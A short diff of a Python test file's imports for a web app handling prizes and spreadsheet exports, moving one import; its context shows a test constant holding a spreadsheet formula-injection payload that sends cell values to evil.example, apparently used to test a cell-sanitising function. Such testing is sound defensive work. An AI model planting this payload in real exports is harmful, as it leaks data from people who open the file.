@@ -15,9 +15,9 @@ import pytest
 from tests.helpers import VIEWERS_WIN, give_details, scan_pdf
 from webapp.core.spreadsheet import safe_cell
 from webapp.extensions import db
-from webapp.jobs import commit
 from webapp.prizes.models import Prize
 from webapp.prizes.operations import mark_signed
+from webapp.tasks.outbox import commit
 
 EVIL = '=HYPERLINK("http://evil.example/?"&K3&K4,"Подробнее")'
 
